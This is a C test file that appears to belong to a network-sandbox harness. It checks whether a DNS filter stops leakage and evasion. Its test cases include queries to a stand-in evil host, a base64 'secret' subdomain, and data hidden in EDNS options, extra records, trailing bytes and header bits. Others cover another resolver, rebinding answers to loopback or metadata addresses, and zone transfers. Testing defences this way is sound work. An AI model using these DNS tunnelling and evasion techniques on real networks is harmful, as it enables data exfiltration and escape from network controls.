/*
 * Attempts to learn or to say something by questions for names, in the world of hosts.c: api.example.com (ports 80 and 443) and *.pkg.example (the
 * same) are allowed. spy.pkg.example is at 10.9.3.N, where N says what was odd about the question (Oddity in Question.cs).
 */
#include "hosts.h"
#include <poll.h>

enum { CAPITALS = 1, OPTIONS = 2, EXTENSION = 4, MORE = 8, HEADER = 16, CLASS = 32, TYPE = 64, CHARACTERS = 128 };
enum { A_RECORD = 1, TXT = 16, AAAA = 28, SRV = 33, NULL_RECORD = 10, SVCB = 64, HTTPS = 65, AXFR = 252, ANY = 255 };

static unsigned char question[2048], answer[65536];
static int size, got, over_tcp;

/* A plain question for a name. */
static void ask_for(const char *name, int type)
{
    static const unsigned char head[12] = { 0x12, 0x34, 1, 0, 0, 1 };
    memcpy(question, head, size = sizeof head);
    for (const char *label = name; *label != 0;) {
        int length = strcspn(label, ".");
        question[size++] = length;
        memcpy(question + size, label, length);
        size += length;
        label += length + (label[length] == '.');
    }
    const unsigned char tail[5] = { 0, type >> 8, type, 0, 1 };
    memcpy(question + size, tail, sizeof tail);
    size += sizeof tail;
}

static void say(int fd, const unsigned char *message, int length)
{
    unsigned char head[2] = { length >> 8, length };
    if (over_tcp) need("send", send(fd, head, 2, MSG_NOSIGNAL | MSG_MORE));
    need("send", send(fd, message, length, MSG_NOSIGNAL));
}

/* The next answer within a time; its length. */
static int hear(int fd, unsigned char *to, int milliseconds)
{
    unsigned char head[2] = { 255, 255 };
    struct pollfd one = { fd, POLLIN, 0 };
    if (poll(&one, 1, milliseconds) != 1) return -1;
    if (over_tcp && recv(fd, head, 2, MSG_WAITALL) != 2) return -1;
    return recv(fd, to, head[0] << 8 | head[1], over_tcp ? MSG_WAITALL : 0);
}

/* Asks, and waits for an answer. A second question, which is always answered, tells when there is none. */
static void ask(void)
{
    static unsigned char other[65536];
    static const unsigned char last[] = "\x77\x77\1\0\0\1\0\0\0\0\0\0\3api\7example\3com\0\0\1\0\1";
    struct sockaddr_in server = at(SERVER, 53);
    int fd = need("socket", socket(AF_INET, over_tcp ? SOCK_STREAM : SOCK_DGRAM, 0)), length;
    need("connect", connect(fd, (struct sockaddr *)&server, sizeof server));
    say(fd, question, size);
    say(fd, last, sizeof last - 1);
    for (int wait = 20000; got == 0 && (length = hear(fd, other, wait)) > 0;) {
        if (length > 1 && other[0] == 0x77) wait = 50;
        else memcpy(answer, other, got = length);
    }
    if (got == 0) errno = ETIMEDOUT;
    if (got < 12) refused("answer");
    errno = 0;
    if ((answer[3] & 15) == 3) refused("NXDOMAIN");
    if ((answer[3] & 15) != 0) refused("failure");
    if (answer[7] == 0 && answer[6] == 0) refused("no data");
}

/* The data of the answer's last record, which is as long as an address. */
static const unsigned char *found(int length) { return answer + got - length; }

static void is_answered(const char *name, int type) { ask_for(name, type); ask(); worked(); }
static void a_name(void) { is_answered("evil.example.net", A_RECORD); }
static void a_name6(void) { is_answered("evil.example.net", AAAA); }
static void a_name_tcp(void) { over_tcp = 1; is_answered("evil.example.net", A_RECORD); }
static void a_name_alias(void) { is_answered("www.example.com", A_RECORD); }
static void a_name_above(void) { is_answered("pkg.example", A_RECORD); }
static void a_name_beneath(void) { is_answered("c2VjcmV0.api.example.com", A_RECORD); }
static void a_name_like(void) { is_answered("xpkg.example", A_RECORD); }
static void a_name_label(void)
{
    /* One label with dots in it, which as text is an allowed name. */
    ask_for("x", A_RECORD);
    unsigned char tail[5];
    memcpy(tail, question + size - 5, 5);
    size = 12 + sprintf((char *)question + 12, "%c%s", 13, "x.pkg.example");
    memcpy(question + size, tail, 5);
    size += 5;
    ask();
    worked();
}
static void a_name_binary(void) { is_answered("\x01\xff\x7f.pkg.example", A_RECORD); }
static void a_name_other_server(void)
{
    struct sockaddr_in server = at(EVIL, 53);
    int fd = need("socket", socket(AF_INET, SOCK_DGRAM, 0));
    ask_for("api.example.com", A_RECORD);
    need("sendto", sendto(fd, question, size, 0, (struct sockaddr *)&server, sizeof server));
    answered(fd);
}
static void a_name_other_server_send(void)
{
    struct sockaddr_in server = at(EVIL, 53);
    int fd = need("socket", socket(AF_INET, SOCK_DGRAM, 0));
    ask_for("api.example.com", A_RECORD);
    need("connect", connect(fd, (struct sockaddr *)&server, sizeof server));
    need("send", send(fd, question, size, 0));
    answered(fd);
}
static void a_name_other_server_tcp(void) { reaches(EVIL, 53); }

/* Saying something with a question for an allowed name. */
static void carries(int what)
{
    ask();
    if (found(4)[0] != 10 || found(4)[2] != 3) { errno = EPROTO; impossible("answer"); }
    if (!(found(4)[3] & what)) refused("kept back");
    worked();
}
static void extended(const unsigned char *record, int length) { memcpy(question + size, record, length); size += length; question[11]++; }
static void a_question_capitals(void) { ask_for("sPy.pKg.eXaMpLe", A_RECORD); carries(CAPITALS); }
static void a_question_capitals_tcp(void) { over_tcp = 1; a_question_capitals(); }
static void a_question_options(void)
{
    static const unsigned char cookie[] = { 0, 0, 41, 4, 208, 0, 0, 0, 0, 0, 10, 0, 10, 0, 6, 's', 'e', 'c', 'r', 'e', 't' };
    ask_for("spy.pkg.example", A_RECORD);
    extended(cookie, sizeof cookie);
    carries(OPTIONS);
}
static void a_question_options_tcp(void) { over_tcp = 1; a_question_options(); }
static void a_question_size(void)
{
    static const unsigned char larger[] = { 0, 0, 41, 8, 55, 0, 0, 128, 0, 0, 0 };
    ask_for("spy.pkg.example", A_RECORD);
    extended(larger, sizeof larger);
    carries(EXTENSION);
}
static void a_question_record(void)
{
    static const unsigned char text[] = { 0, 0, 16, 0, 1, 0, 0, 0, 0, 0, 7, 6, 's', 'e', 'c', 'r', 'e', 't' };
    ask_for("spy.pkg.example", A_RECORD);
    extended(text, sizeof text);
    carries(MORE);
}
static void a_question_rest(void) { ask_for("spy.pkg.example", A_RECORD); memcpy(question + size, "secret", 6); size += 6; carries(MORE); }
static void a_question_second(void)
{
    ask_for("spy.pkg.example", A_RECORD);
    memcpy(question + size, "\6secret\0\0\1\0\1", 12);
    size += 12;
    question[5] = 2;
    carries(MORE);
}
static void a_question_header(void) { ask_for("spy.pkg.example", A_RECORD); question[3] = 0x70; carries(HEADER); }
static void a_question_operation(void) { ask_for("spy.pkg.example", A_RECORD); question[2] = 0x29; carries(HEADER); }
static void a_question_class(void) { ask_for("spy.pkg.example", A_RECORD); question[size - 1] = 3; carries(CLASS); }
static void of_type(int type) { ask_for("spy.pkg.example", type); carries(TYPE); }
static void a_question_text(void) { of_type(TXT); }
static void a_question_text_tcp(void) { over_tcp = 1; of_type(TXT); }
static void a_question_service(void) { of_type(SRV); }
static void a_question_null(void) { of_type(NULL_RECORD); }
static void a_question_svcb(void) { of_type(SVCB); }
static void a_question_https(void) { of_type(HTTPS); }
static void a_question_any(void) { of_type(ANY); }
static void a_question_transfer(void) { over_tcp = 1; of_type(AXFR); }
static void a_question_type_number(void) { of_type(0x5345); }

/* What an answer opens: the address of the name asked for, and no other. */
static void opens(const char *name, int type)
{
    char text[64];
    ask_for(name, type);
    ask();
    inet_ntop(type == AAAA ? AF_INET6 : AF_INET, found(type == AAAA ? 16 : 4), text, sizeof text);
    reaches(text, 80);
}
static void a_answer_loopback(void) { opens("local.pkg.example", A_RECORD); }
static void a_answer_loopback6(void) { opens("local6.pkg.example", AAAA); }
static void a_answer_mapped(void) { opens("mapped.pkg.example", AAAA); }
static void a_answer_any(void) { opens("any.pkg.example", A_RECORD); }
static void a_answer_any6(void) { opens("any6.pkg.example", AAAA); }
static void a_answer_metadata(void) { opens("metadata.pkg.example", A_RECORD); }
static void a_answer_own(void) { opens("own.pkg.example", A_RECORD); }
static void a_answer_own6(void) { opens("own6.pkg.example", AAAA); }
static void a_answer_unasked(void) { ask_for("unasked.pkg.example", A_RECORD); ask(); reaches(EVIL, 80); }
static void a_answer_forged(void) { ask_for("forged.pkg.example", A_RECORD); ask(); reaches(EVIL, 80); }
static void a_answer_broken(void)
{
    /* Whatever becomes of the question, what stands in the broken rest counts for nothing. */
    struct sockaddr_in server = at(SERVER, 53);
    int fd = need("socket", socket(AF_INET, SOCK_DGRAM, 0));
    ask_for("broken.pkg.example", A_RECORD);
    need("connect", connect(fd, (struct sockaddr *)&server, sizeof server));
    need("send", send(fd, question, size, MSG_NOSIGNAL));
    usleep(300000);
    reaches(EVIL, 80);
}
static void a_answer_port(void) { ask_for("api.example.com", A_RECORD); ask(); reaches(ALLOWED, 81); }

const struct attempt names_attempts[] = {
    A(name), A(name6), A(name_tcp), A(name_alias), A(name_above), A(name_beneath), A(name_like), A(name_label), A(name_binary), A(name_other_server),
    A(name_other_server_send), A(name_other_server_tcp), A(question_capitals), A(question_capitals_tcp), A(question_options), A(question_options_tcp),
    A(question_size), A(question_record), A(question_rest), A(question_second), A(question_header), A(question_operation), A(question_class),
    A(question_text), A(question_text_tcp), A(question_service), A(question_null), A(question_svcb), A(question_https), A(question_any),
    A(question_transfer), A(question_type_number), A(answer_loopback), A(answer_loopback6), A(answer_mapped), A(answer_any), A(answer_any6),
    A(answer_metadata), A(answer_own), A(answer_own6), A(answer_unasked), A(answer_forged), A(answer_broken), A(answer_port),
    { NULL, NULL },
};
